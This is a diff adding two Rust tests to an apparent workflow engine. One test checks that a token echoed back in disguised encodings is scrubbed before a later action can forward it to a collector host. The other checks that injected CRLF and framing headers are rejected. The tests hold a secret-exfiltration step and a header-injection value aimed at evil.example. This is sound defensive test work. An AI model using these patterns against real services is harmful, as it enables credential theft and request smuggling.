@@ -235,3 +235,95 @@ async fn the_runner_scrubs_a_secret_the_provider_echoes() {
         Some("HTTP answered 400: upstream rejected the request: Bearer [redacted]")
     );
 }
+
+/// An upstream that echoes the connection's token back disguised (upper case, base64,
+/// base64url, percent-encoded): the disguises are scrubbed before the output is recorded *and*
+/// before a later action's template can read it and send it elsewhere.
+#[tokio::test]
+async fn transformed_echoes_are_scrubbed_before_later_actions_read_them() {
+    let w = World::new().await;
+    let fake = FakeUpstream::new();
+    fake.echo_credentials(true);
+    w.transport.route(HOST, fake.router());
+    let collector = FakeUpstream::new();
+    w.transport.route("collector.test", collector.router());
+    let secret = "At-0K.mirrored/s3cret+t0ken";
+    let body =
+        json!({"name": "Upstream", "app_id": "HTTP", "setup": {"type": "BEARER", "token": secret}});
+    let new = validate_create(&body).unwrap_or_else(|e| panic!("{e}"));
+    let id = w.vault.create_connection(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}")).id;
+    let flow = json!({"name": "Mirror", "actions": [
+        {"id": "mirror", "type": "HTTP", "action": "SEND_REQUEST",
+         "params": {"connection_id": id.to_string(), "url": format!("https://{HOST}/mirror")}},
+        {"id": "leak", "type": "HTTP", "action": "SEND_REQUEST",
+         "params": {"url": "https://collector.test/collect", "method": "POST",
+                    "payload": {"got": "{{actions.mirror.body}}"}}},
+        {"id": "done", "type": "FLOW", "action": "RETURN_JSON",
+         "params": {"payload": {"mirror": "{{actions.mirror.body}}"}}},
+    ]});
+    let new = validate_flow_create(&flow).unwrap_or_else(|e| panic!("{e}"));
+    let flow = w.vault.create_flow(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}"));
+    let engine = w.engine("a");
+    let outcome =
+        engine.run_flow(&w.tenant, &flow, RunInput::default(), RunLimits::default()).await;
+    assert_eq!(outcome.status, RunStatus::Completed, "{:?}", outcome.record.error);
+
+    use base64::Engine as _;
+    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+    let disguises = [
+        secret.to_owned(),
+        secret.to_uppercase(),
+        secret.to_lowercase(),
+        STANDARD.encode(secret),
+        URL_SAFE_NO_PAD.encode(format!("token={secret}")),
+        "s3cret".to_owned(),
+        "S3CRET".to_owned(),
+    ];
+    let record = serde_json::to_string(&outcome.record).unwrap_or_else(|e| panic!("{e}"));
+    let sent = format!("{:?}", collector.log().all());
+    assert!(sent.contains("collect"), "the second action ran: {sent}");
+    for d in &disguises {
+        assert!(!record.contains(d.as_str()), "{d} in the record: {record}");
+        assert!(!sent.contains(d.as_str()), "{d} was sent on by a later action: {sent}");
+    }
+    // Percent-encoded with lower-case hex, too.
+    assert!(!record.to_lowercase().contains("%2fs3cret"), "{record}");
+    assert!(!sent.to_lowercase().contains("%2fs3cret"), "{sent}");
+}
+
+/// Rendered headers meet the rules saved ones do: a template can't smuggle a line break into a
+/// credentialed request, nor a framing header into any.
+#[tokio::test]
+async fn rendered_headers_are_checked_like_saved_ones() {
+    let w = World::new().await;
+    let fake = FakeUpstream::new();
+    w.transport.route(HOST, fake.router());
+    let body = json!({"name": "Upstream", "app_id": "HTTP", "setup": {"type": "BEARER", "token": "header-test-token"}});
+    let new = validate_create(&body).unwrap_or_else(|e| panic!("{e}"));
+    let id = w.vault.create_connection(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}")).id;
+    let flow = json!({"name": "Headers", "actions": [
+        {"id": "note", "type": "HTTP", "action": "SEND_REQUEST", "allow_failure": true,
+         "params": {"connection_id": id.to_string(), "url": format!("https://{HOST}/x"),
+                    "headers": {"X-Note": "{{fields.note}}"}}},
+        {"id": "free", "type": "HTTP", "action": "SEND_REQUEST", "allow_failure": true,
+         "params": {"url": format!("https://{HOST}/y"), "headers": "{{fields.headers}}"}},
+    ]});
+    let new = validate_flow_create(&flow).unwrap_or_else(|e| panic!("{e}"));
+    let flow = w.vault.create_flow(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}"));
+    let fields =
+        json!({"note": "a\r\nHost: evil.example", "headers": {"Transfer-Encoding": "chunked"}});
+    let input = RunInput { fields, context: json!({}) };
+    let outcome = w.engine("a").run_flow(&w.tenant, &flow, input, RunLimits::default()).await;
+    let errors: Vec<String> = outcome
+        .record
+        .actions
+        .iter()
+        .map(|a| a.error.as_ref().map(|e| e.message.clone()).unwrap_or_default())
+        .collect();
+    assert!(errors[0].contains("X-Note") && errors[0].contains("line break"), "{errors:?}");
+    assert!(
+        errors[1].contains("Transfer-Encoding") && errors[1].contains("hop-by-hop"),
+        "{errors:?}"
+    );
+    assert!(fake.log().all().is_empty(), "nothing was sent");
+}
